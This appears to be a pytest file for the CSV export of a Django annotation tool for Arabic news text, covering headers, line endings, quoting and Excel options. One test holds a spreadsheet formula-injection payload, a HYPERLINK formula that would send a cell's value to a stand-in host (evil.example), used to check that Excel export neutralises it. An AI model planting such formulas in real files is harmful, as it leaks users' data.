"""CSV (FORMATS.md §8): one row per span, RFC 4180, BOM only with --excel."""

import csv
import io

import pytest

from .conftest import add, export_bytes


@pytest.mark.django_db
def test_csv_has_the_header_and_one_row_per_span_in_text_order(headline, project):
    data = export_bytes(project, "csv")[0]
    assert data.decode("utf-8").splitlines()[:3] == [
        "document,layer,annotator,status,start,end,label,text,kind",
        "000_f057059c50c62636,gold,,reviewed,0,5,PERS,حموشي,entity",
        "000_f057059c50c62636,gold,,reviewed,28,34,GPE,المغرب,entity",
    ]
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
    assert [(r["start"], r["label"], r["kind"]) for r in rows][3] == (
        "43", "MOVEMENT_TRANSPORT", "trigger",
    )  # fmt: skip
    assert len(rows) == 5


@pytest.mark.django_db
def test_csv_lines_end_in_crlf_and_starts_without_bom(headline, project):
    data = export_bytes(project, "csv")[0]
    assert not data.startswith(b"\xef\xbb\xbf")
    assert data.count(b"\r\n") == 6 and data.count(b"\n") == 6


@pytest.mark.django_db
def test_csv_excel_option_adds_a_utf8_bom(headline, project):
    data = export_bytes(project, "csv", excel=True)[0]
    assert data.startswith(b"\xef\xbb\xbfdocument,layer")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0][0] == "document"


@pytest.mark.django_db
def test_csv_quotes_commas_quotes_and_newlines_in_span_text(project, reviewer):
    from newsreview.annotations import services as annotate
    from newsreview.documents.services import create_document

    text = 'قال: "باريس, فرنسا"\nثم غادر'
    document = create_document(project=project, text=text, external_id="q")
    gold = annotate.get_or_create_named_layer(document=document, name="gold")
    covered = '"باريس, فرنسا"\nثم'
    add(gold, covered, "GPE", reviewer)  # across a line break: as imported data may be
    data = export_bytes(project, "csv")[0].decode("utf-8")
    assert '"""باريس, فرنسا""\nثم"' in data
    (row,) = list(csv.DictReader(io.StringIO(data, newline="")))
    assert row["text"] == covered and row["annotator"] == ""


@pytest.mark.django_db
def test_csv_annotator_column_names_the_layer_owner(seed_gold, project):
    rows = list(
        csv.DictReader(
            io.StringIO(export_bytes(project, "csv", "annotator1")[0].decode(), newline="")
        )  # fmt: skip
    )
    assert {(r["layer"], r["annotator"], r["status"]) for r in rows} == {
        ("annotator1", "annotator1", "done")
    }


@pytest.mark.django_db
def test_csv_says_which_events_lose_their_arguments(headline, project):
    _data, warnings = export_bytes(project, "csv")
    assert warnings == [
        "1 event(s) in 1 document(s) (000_f057059c50c62636) are not in csv: their triggers "
        "are rows (kind “trigger”), their arguments are not (use jsonl)"
    ]


@pytest.mark.django_db
def test_csv_for_excel_turns_formula_cells_into_text_and_plain_csv_keeps_them(project, reviewer):
    from newsreview.annotations import services as annotate
    from newsreview.documents.services import create_document

    text = '=HYPERLINK("http://evil.example/?x="&A1,"click") حموشي'
    document = create_document(project=project, text=text, title="t", external_id="=1+1")
    layer = annotate.get_or_create_named_layer(document=document, name="gold")
    annotate.add_span(layer=layer, start=0, end=len(text) - 6, label="ORG", by=reviewer)
    excel = export_bytes(project, "csv", excel=True)[0].decode("utf-8-sig")
    row = list(csv.reader(io.StringIO(excel, newline="")))[1]
    assert (row[0], row[7]) == ("'=1+1", "'" + text[: len(text) - 6])
    plain = export_bytes(project, "csv")[0].decode("utf-8")
    row = list(csv.reader(io.StringIO(plain, newline="")))[1]
    assert (row[0], row[7]) == ("=1+1", text[: len(text) - 6])  # the text, byte for byte


@pytest.mark.django_db
def test_csv_is_silent_about_an_event_without_arguments(project, reviewer):
    from newsreview.annotations import services as annotate
    from newsreview.documents.services import create_document

    document = create_document(project=project, text="لقاء في الرباط", title="t")
    layer = annotate.get_or_create_named_layer(document=document, name="gold")
    annotate.add_span(layer=layer, start=0, end=4, label="CONTACT_MEET", by=reviewer)
    data, warnings = export_bytes(project, "csv")
    assert warnings == []
    assert data.decode("utf-8").splitlines()[1].endswith(",CONTACT_MEET,لقاء,trigger")
